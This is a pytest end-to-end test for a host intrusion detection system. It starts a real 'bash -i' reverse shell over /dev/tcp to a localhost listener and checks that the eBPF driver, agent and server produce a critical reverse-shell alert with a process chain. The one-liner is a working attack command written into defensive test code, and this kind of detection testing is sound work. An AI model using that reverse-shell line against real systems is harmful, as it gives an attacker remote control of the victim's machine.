"""The whole chain on this kernel: a real reverse shell -> eBPF driver -> agent -> server -> rule -> alert.

A new server gives its agents the built-in driver; a real ``elkeid agent`` runs
it; a ``bash -i`` whose stdin and stdout are a TCP socket to a local listener
must come back as a critical alert of the default ruleset, with its process
chain, through the API.
"""

from __future__ import annotations

import secrets
import socket
import subprocess
import threading
import uuid

import pytest

from tests._support import AgentProcess, ServerProcess, agent_record, wait_until
from tests.bpf._harness import bpf_unavailable_reason

pytestmark = [pytest.mark.bpf, pytest.mark.slow]


def _driver_running(api, aid: str) -> bool:
    page = api.get("/api/v1/events", params={"agent_id": aid, "data_type": 900, "limit": 1}).json()
    return bool(page["items"]) and page["items"][0]["fields"].get("state") == "running"


def test_a_real_reverse_shell_becomes_a_critical_alert(tmp_path):
    reason = bpf_unavailable_reason()
    if reason:
        pytest.skip(f"eBPF is unavailable here: {reason}")
    srv = ServerProcess(tmp_path / "srv", admin_password=secrets.token_urlsafe(12),
                        extra_args=["--default-plugins", "driver"])  # fmt: skip
    srv.start()
    aid = f"e2e-{uuid.uuid4()}"
    agent = AgentProcess(tmp_path / "agent", aid).start(srv, srv.create_token())
    listener = socket.socket()
    try:
        with srv.api() as api:
            wait_until(lambda: (r := agent_record(api, aid)) and r["online"], 30, message="agent online")
            # Compiling the probes takes tens of seconds on a busy machine.
            wait_until(lambda: _driver_running(api, aid), 300, interval=1, message="driver probes loaded")

            listener.bind(("127.0.0.1", 0))
            listener.listen(1)
            port = listener.getsockname()[1]
            held: list[socket.socket] = []
            accepted = threading.Thread(target=lambda: held.append(listener.accept()[0]), daemon=True)
            accepted.start()
            # The shell lives until timeout ends it (the "attacker" never types); its status does not matter.
            subprocess.run(["timeout", "5", "bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
                           capture_output=True, timeout=30)  # fmt: skip
            accepted.join(5)
            for conn in held:
                conn.close()

            def reverse_shell_alert():
                items = api.get("/api/v1/alerts", params={"agent_id": aid, "severity": "critical"}).json()["items"]
                return [a for a in items if a["event"].get("dport") == str(port) or str(port) in a["event"].get("argv", "")]

            (alert, *_) = wait_until(reverse_shell_alert, 60, interval=0.5, message="a critical reverse-shell alert")
            assert alert["rule_id"].startswith("reverse_shell"), alert["rule_id"]
            detail = api.get(f"/api/v1/alerts/{alert['id']}").json()
            assert detail["rule"]["severity"] == "critical" and detail["rule"].get("attack")
            assert detail["event"]["exe"].endswith("bash")
            assert detail["process_chain"], "the chain is rebuilt from recent events"
    finally:
        listener.close()
        agent.stop()
        srv.stop()
